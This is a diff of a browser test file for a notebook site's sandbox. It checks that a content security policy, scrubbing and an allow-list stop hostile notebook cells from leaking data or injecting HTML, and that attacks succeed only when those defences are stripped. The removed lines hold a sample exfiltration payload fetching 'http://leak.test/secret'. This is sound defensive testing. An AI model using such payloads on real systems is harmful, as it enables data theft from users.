@@ -1,74 +1,79 @@
-import {readFileSync} from "node:fs";
-import {resolve} from "node:path";
-import {build} from "esbuild";
-import {expect, it} from "vitest";
+import {describe, expect, it} from "vitest";
+import type {Defence} from "./weaken.ts";
+import {readCases} from "../hostile/cases.ts";
 import {chapter, open} from "./browser.ts";
+import {prepareHostileCell} from "./hostileCell.ts";
+import {weaken} from "./weaken.ts";
 
-// A lock that is never tried may be none: without it, a hostile cell must get through.
+// A lock that is never tried may be none: without it, hostile cells must fail their cases.
 
-/** Returns what `fetch` in a cell sends, on a page without some of its defences. */
-async function requestsOf({policy, scrub}: {policy: boolean; scrub: boolean}): Promise<string[]> {
+/** What the cases of some files come to on a page without some of its defences. */
+interface Damage {
+  /** the cases that fail */
+  failed: string[];
+  /** how often code of a cell has run in the page */
+  intrusions: number;
+  /** how many requests have gone to the cells' hosts */
+  sent: number;
+}
+
+async function damageWithout(defences: Defence[], files: string[]): Promise<Damage> {
   const {page} = await open("");
-  const requests: string[] = [];
-  page.context().on("request", (request) => {
-    if (request.url().includes("leak.test")) requests.push(request.url());
-  });
-  await page.context().route("**/leak.test/**", (route) => route.abort());
-  const withoutPolicy = (html: string) =>
-    html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/i, "");
-  if (!policy) {
-    for (const pattern of ["**/chapters/**", "**/sandbox/frame.*"]) {
-      await page.route(pattern, async (route) => {
-        const response = await route.fetch();
-        await route.fulfill({response, body: withoutPolicy(await response.text())});
-      });
-    }
+  let sent = 0;
+  await page.route("**/*leak.test*/**", (route) => (sent++, route.abort()));
+  await weaken(page, defences);
+  await page.goto(new URL(chapter, page.url()).href);
+  const cell = await prepareHostileCell(page, 600);
+  const failed: string[] = [];
+  for (const each of files.flatMap((file) => readCases(file))) {
+    if ((await cell.faultsOf(each)).length > 0) failed.push(each.id);
   }
-  if (!scrub) {
-    const body = await buildWithoutScrub();
-    await page.route("**/sandbox/worker.*", (route) => route.fulfill({body}));
-  }
-  await page.goto(`${page.url()}${chapter}`);
-  await page.evaluate(() =>
-    (document.querySelector("#cell-weights-sums") as any).edit(
-      'await globalThis["fetch"]("http://leak.test/secret", {mode: "no-cors"})'
-    )
-  );
-  const output = page.locator("#cell-weights-sums .cell-output");
-  await expect.poll(() => output.innerText(), {timeout: 10_000}).toMatch(/Error|fetch/);
+  const intrusions = await cell.intrusions();
   await page.context().close();
-  return requests;
+  return {failed, intrusions, sent};
 }
 
-async function buildWithoutScrub(): Promise<string> {
-  const {outputFiles} = await build({
-    entryPoints: [resolve("src/notebook/sandbox/worker.ts")],
-    inject: [resolve("src/notebook/sandbox/keptDate.ts")],
-    bundle: true,
-    format: "iife",
-    target: "es2022",
-    write: false,
-    plugins: [
-      {
-        name: "without-scrub",
-        setup: ({onLoad}) =>
-          onLoad({filter: /scrub\.ts$/}, () => ({contents: "export const scrub = () => {};"}))
-      }
-    ]
+describe("cells that send", () => {
+  it.each<[Defence[], (sent: number) => boolean]>([
+    [[], (sent) => sent === 0],
+    [["policy"], (sent) => sent === 0],
+    [["scrubbing"], (sent) => sent === 0],
+    [["policy", "scrubbing"], (sent) => sent >= 3]
+  ])("get through without %j only if both are gone", async (defences, isExpected) => {
+    const {sent} = await damageWithout(defences, ["04-exfiltration"]);
+    expect(sent).toSatisfy(isExpected);
   });
-  return outputFiles[0].text;
-}
-
-it.each([
-  [{policy: true, scrub: true}, 0],
-  [{policy: false, scrub: true}, 0],
-  [{policy: true, scrub: false}, 0],
-  [{policy: false, scrub: false}, 1]
-])("with %j, a cell that fetches gets out %i times", async (defences, count) => {
-  expect(await requestsOf(defences)).toHaveLength(count);
 });
 
-it("the policy of every page with cells is the one that is tried", () => {
-  const html = readFileSync("dist/chapters/08-softmax/index.html", "utf8");
-  expect(html).toMatch(/<meta http-equiv="Content-Security-Policy" content="default-src 'none'/);
+describe("cells that draw", () => {
+  const files = ["05-injection", "04-exfiltration"];
+  const drawings = ["08", "10", "12", "13", "14"].map((number) => `injection-${number}`);
+  const links = ["13", "14", "16", "17", "20", "21", "22"].map((n) => `exfiltration-${n}`);
+
+  it("fail without the list of what drawings may have; the policy holds", async () => {
+    const {failed, intrusions, sent} = await damageWithout(["list"], files);
+    expect(failed).toEqual([...drawings, ...links]);
+    expect([intrusions, sent]).toEqual([0, 0]);
+  });
+
+  it("get through without the list and the policy", async () => {
+    const {failed, intrusions, sent} = await damageWithout(["list", "policy"], files);
+    expect(failed).toEqual(expect.arrayContaining([...drawings, ...links]));
+    expect(intrusions).toBeGreaterThan(0);
+    expect(sent).toBeGreaterThan(0);
+  });
+});
+
+describe("cells that write HTML", () => {
+  it("fail if outputs are parsed, for the policy lets no text become HTML", async () => {
+    const {failed, intrusions} = await damageWithout(["building"], ["05-injection"]);
+    expect(failed.length).toBeGreaterThan(15);
+    expect(intrusions).toBe(0);
+  });
+
+  it("get through if outputs are parsed without the policy", async () => {
+    const {failed, intrusions} = await damageWithout(["building", "policy"], ["05-injection"]);
+    expect(failed).toEqual(expect.arrayContaining(["injection-01", "injection-02"]));
+    expect(intrusions).toBeGreaterThan(0);
+  });
 });
